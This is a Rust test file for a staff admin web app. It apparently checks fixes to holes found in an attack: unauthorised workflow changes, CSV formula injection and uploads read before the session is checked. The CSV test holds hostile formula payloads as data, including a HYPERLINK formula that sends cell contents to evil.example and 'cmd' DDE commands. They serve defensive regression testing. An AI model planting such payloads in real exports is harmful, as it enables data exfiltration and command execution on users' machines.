//! The holes that an attack on the staff area found (issue "Fix first"), each tried the
//! way the attacker tried it: the workflow table, formulas in CSV files, uploads read
//! before the session was checked. Hole 1 (parallel password guesses) is in `staff.rs`,
//! next to the other sign-in tests; hole 4 (markup in the cooperation forms) in
//! `form_markup.rs`.

use crate::support::http::{encode, get, location, path, post};
use crate::support::staff::{csrf, service_in, signed_in, staff_app, ADMIN, IEPER};
use app::services::edit::SaveService;
use app::transfer::ImportUpload;
use axum::body::{Body, Bytes};
use axum::http::{header, Request, StatusCode};
use tower::ServiceExt;

// ---- Hole 2: the workflow table -----------------------------------------------------

async fn status_and_revision(db: &app::db::Db, id: &str) -> (String, i64) {
    let mut r = db
        .query("SELECT VALUE [status, revision] FROM type::record('service', $id)")
        .bind(("id", id.to_owned()))
        .await
        .unwrap();
    let row: Vec<(String, i64)> = r.take(0).unwrap();
    row.into_iter().next().unwrap()
}

/// The service form's post for a stored service, with its own values.
async fn service_form(db: &app::db::Db, token: &str, id: &str, action: &str) -> String {
    let service = app::services::edit::repo::load(db, id)
        .await
        .unwrap()
        .unwrap();
    let mut pairs: Vec<(String, String)> = app::services::edit::form_view_values(&service)
        .into_iter()
        .map(|(k, v)| (format!("f[{k}]"), v))
        .collect();
    for (k, v) in [
        ("lang", "nl"),
        ("csrf", token),
        ("id", id),
        ("action", action),
        ("hours_mode", "raw"),
    ] {
        pairs.push((format!("f[{k}]"), v.to_owned()));
    }
    pairs.push(("f[revision]".into(), service.revision.to_string()));
    let borrowed: Vec<(&str, &str)> = pairs
        .iter()
        .map(|(k, v)| (k.as_str(), v.as_str()))
        .collect();
    encode(&borrowed)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn only_an_admin_takes_a_service_out_of_the_archive_and_only_to_a_draft() {
    let (db, router) = staff_app().await;
    let id = service_in(&db, "33011").await;
    db.query("UPDATE type::record('service', $id) SET status = 'archived'")
        .bind(("id", id.clone()))
        .await
        .unwrap()
        .check()
        .unwrap();
    let before = status_and_revision(&db, &id).await;
    let editor = signed_in(&router, IEPER).await;
    let token = csrf(&router, &editor).await;
    let save = path::<SaveService>();
    // The attack: "unpublish" and "publish" on an archived service. Neither is offered;
    // posted anyway, they change nothing.
    for action in ["unpublish", "publish", "verify", "archive"] {
        let body = service_form(&db, &token, &id, action).await;
        let (status, headers, _) = post(
            &router,
            save,
            &body,
            &[("cookie", &editor), ("accept", "text/html")],
        )
        .await;
        assert_eq!(status, StatusCode::FOUND, "{action}");
        assert!(location(&headers).ends_with(&id), "{action}");
        assert_eq!(status_and_revision(&db, &id).await, before, "{action}");
    }
    // Restoring, or editing the archived record, is an admin's: 403.
    for action in ["restore", "save"] {
        let body = service_form(&db, &token, &id, action).await;
        let (status, _, _) = post(&router, save, &body, &[("cookie", &editor)]).await;
        assert_eq!(status, StatusCode::FORBIDDEN, "{action}");
        assert_eq!(status_and_revision(&db, &id).await, before, "{action}");
    }
    // The form offers the editor no action on it, and says why, in both languages.
    for (page, message) in [
        (format!("/nl/beheer/diensten/{id}"), "Alleen een beheerder"),
        (
            format!("/fr/gestion/services/{id}"),
            "Seul un administrateur",
        ),
    ] {
        let (status, _, html) = get(&router, &page, &[(header::COOKIE, &editor)]).await;
        assert_eq!(status, StatusCode::OK);
        assert!(!html.contains("name=\"f[action]\""), "{page}");
        assert!(html.contains(message), "{page}");
    }
    // An admin sees "save" and "restore", and "restore" leads to a draft.
    let admin = signed_in(&router, ADMIN).await;
    let admin_token = csrf(&router, &admin).await;
    let (_, _, html) = get(
        &router,
        &format!("/fr/gestion/services/{id}"),
        &[(header::COOKIE, &admin)],
    )
    .await;
    let offered: Vec<&str> = html
        .match_indices("data-testid=\"action-")
        .map(|(at, m)| html[at + m.len()..].split('"').next().unwrap())
        .collect();
    assert_eq!(offered, ["save", "restore"]);
    let body = service_form(&db, &admin_token, &id, "publish").await;
    post(&router, save, &body, &[("cookie", &admin)]).await;
    assert_eq!(status_and_revision(&db, &id).await, before);
    let body = service_form(&db, &admin_token, &id, "restore").await;
    post(&router, save, &body, &[("cookie", &admin)]).await;
    assert_eq!(status_and_revision(&db, &id).await.0, "draft");
}

// ---- Hole 3: formula injection in CSV files -------------------------------------------

const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Cells a spreadsheet would run as a formula: they begin with a trigger and are not a
/// plain number.
fn formulas(csv: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv.as_bytes());
    reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .filter(|cell| cell.starts_with(TRIGGERS) && cell.parse::<f64>().is_err())
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_csv_file_holds_a_formula_and_the_import_reads_the_export_back() {
    let (db, router) = staff_app().await;
    let admin = signed_in(&router, ADMIN).await;
    let token = csrf(&router, &admin).await;
    let hostile = [
        (
            "name_nl",
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"Klik\")",
        ),
        ("name_fr", "+cmd|' /C calc'!A0"),
        ("description_nl", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("description_fr", "-2+3+cmd|' /C calc'!A0"),
        ("address", "=1+1"),
        ("category", "culture"),
        ("municipality", "33011"),
        ("phone", "+32 57 23 92 20\n+33 3 20 00 00 00"),
    ];
    let mut pairs = vec![
        ("f[lang]".to_owned(), "nl"),
        ("f[csrf]".into(), token.as_str()),
        ("f[id]".into(), ""),
        ("f[revision]".into(), ""),
        ("f[action]".into(), "publish"),
        ("f[hours_mode]".into(), "raw"),
    ];
    pairs.extend(hostile.iter().map(|(k, v)| (format!("f[{k}]"), *v)));
    let borrowed: Vec<(&str, &str)> = pairs.iter().map(|(k, v)| (k.as_str(), *v)).collect();
    let (_, headers, _) = post(
        &router,
        path::<SaveService>(),
        &encode(&borrowed),
        &[("cookie", &admin), ("accept", "text/html")],
    )
    .await;
    let id = location(&headers).rsplit('/').next().unwrap().to_owned();
    assert!(id.starts_with("hyperlink"), "{id}");

    let public = [
        "/api/v1/services.csv?municipality=33011",
        "/api/v1/services.csv",
        "/api/v1/municipalities.csv",
        "/api/v1/observatory.csv?category=culture",
        "/api/v1/observatory.csv?category=culture&lang=fr",
    ];
    for uri in public {
        let (status, _, csv) = get(&router, uri, &[]).await;
        assert_eq!(status, StatusCode::OK, "{uri}");
        assert_eq!(formulas(&csv), Vec::<String>::new(), "{uri}");
    }
    let (_, _, csv) = get(&router, public[0], &[]).await;
    assert!(
        csv.contains("'=HYPERLINK(") && csv.contains("'+32 57 23 92 20"),
        "{csv}"
    );
    let export = format!("{}services.csv", app::transfer::EXPORT_PATH);
    let (status, _, staff_csv) = get(&router, &export, &[(header::COOKIE, &admin)]).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(formulas(&staff_csv), Vec::<String>::new());
    // The import reads the export back as it was: nothing to change, no error.
    let report = app::transfer::import::run(
        &db,
        app::transfer::parse::Format::Csv,
        staff_csv.as_bytes(),
        "t",
        false,
        &mut |_| {},
    )
    .await
    .unwrap();
    assert!(report.errors.is_empty(), "{:?}", report.errors);
    assert_eq!((report.create, report.update), (0, 0));
    let stored = app::services::edit::repo::load(&db, &id)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(stored.name.nl.as_deref(), Some(hostile[0].1));
    assert_eq!(stored.phones, ["+32 57 23 92 20", "+33 3 20 00 00 00"]);
}

// ---- Hole 5: uploads read before the session was checked ------------------------------

/// An upload whose body the test holds back: the first part is sent, the rest only
/// when the test says so. Declared as a 19 MiB file, as the attacker's were.
fn held_upload(cookie: Option<&str>) -> (Request<Body>, tokio::sync::mpsc::Sender<Bytes>) {
    let boundary = "----held-upload";
    let (tx, rx) = tokio::sync::mpsc::channel::<Bytes>(1);
    let stream = futures_util::stream::unfold(rx, |mut rx| async move {
        rx.recv()
            .await
            .map(|chunk| (Ok::<_, std::convert::Infallible>(chunk), rx))
    });
    let mut request = Request::post(path::<ImportUpload>())
        .header(
            header::CONTENT_TYPE,
            format!("multipart/form-data; boundary={boundary}"),
        )
        .header(header::CONTENT_LENGTH, (19 * 1024 * 1024).to_string());
    if let Some(cookie) = cookie {
        request = request.header(header::COOKIE, cookie);
    }
    let first = Bytes::from(format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.csv\"\r\n\r\ncategory,name_nl,municipality_code\r\n"
    ));
    tx.try_send(first).unwrap();
    (request.body(Body::from_stream(stream)).unwrap(), tx)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_upload_is_refused_before_its_body_is_read_unless_an_admin_sends_it() {
    let (_db, router) = staff_app().await;
    let editor = signed_in(&router, IEPER).await;
    // The answer comes while the client still holds back nearly all of its 19 MiB: the
    // server did not wait for (or keep) the body.
    for (cookie, expected) in [
        (None, StatusCode::UNAUTHORIZED),
        (Some("staff_session=forged"), StatusCode::UNAUTHORIZED),
        (Some(editor.as_str()), StatusCode::FORBIDDEN),
    ] {
        let (request, held) = held_upload(cookie);
        let response = tokio::time::timeout(
            std::time::Duration::from_secs(5),
            router.clone().oneshot(request),
        )
        .await
        .unwrap_or_else(|_| panic!("{cookie:?}: no answer before the body was sent"))
        .unwrap();
        assert_eq!(response.status(), expected, "{cookie:?}");
        drop(held);
    }
    // A browser without a session is sent to sign in, and back to the import page.
    let (request, held) = held_upload(None);
    let mut request = request;
    request
        .headers_mut()
        .insert(header::ACCEPT, "text/html".parse().unwrap());
    request.headers_mut().insert(
        header::REFERER,
        "http://localhost/fr/gestion/donnees".parse().unwrap(),
    );
    let response = tokio::time::timeout(
        std::time::Duration::from_secs(5),
        router.clone().oneshot(request),
    )
    .await
    .expect("answered at once")
    .unwrap();
    assert_eq!(response.status(), StatusCode::FOUND);
    assert_eq!(
        response.headers()[header::LOCATION],
        "/fr/gestion/connexion?next=%2Ffr%2Fgestion%2Fdonnees"
    );
    drop(held);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn admins_uploads_are_read_a_few_at_a_time() {
    let (_db, router) = staff_app().await;
    let admin = signed_in(&router, ADMIN).await;
    let at_once = server::server_fns::UPLOADS_AT_ONCE;
    let mut held = vec![];
    let mut answers = vec![];
    for _ in 0..=at_once {
        let (request, tx) = held_upload(Some(&admin));
        answers.push(tokio::spawn(router.clone().oneshot(request)));
        held.push(tx);
    }
    // Two of them take their first part; the third waits for a turn, its part unread.
    let taken = |tx: &tokio::sync::mpsc::Sender<Bytes>| tx.capacity() == 1;
    let deadline = tokio::time::Instant::now() + std::time::Duration::from_secs(5);
    while held.iter().filter(|tx| taken(tx)).count() < at_once {
        assert!(
            tokio::time::Instant::now() < deadline,
            "the first uploads were not read"
        );
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    assert_eq!(
        held.iter().filter(|tx| taken(tx)).count(),
        at_once,
        "read beyond {at_once} uploads at once"
    );
    let waiting = held[held.iter().position(|tx| !taken(tx)).unwrap()].clone();
    // One being read ends (its body stops short of what it declared: refused as
    // unreadable); the waiting one gets its turn.
    let reading = held.iter().position(taken).unwrap();
    drop(held.remove(reading));
    let answer = answers.remove(reading).await.unwrap().unwrap();
    assert_eq!(answer.status(), StatusCode::BAD_REQUEST);
    let deadline = tokio::time::Instant::now() + std::time::Duration::from_secs(5);
    while !taken(&waiting) {
        assert!(
            tokio::time::Instant::now() < deadline,
            "the waiting upload never got its turn"
        );
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
}
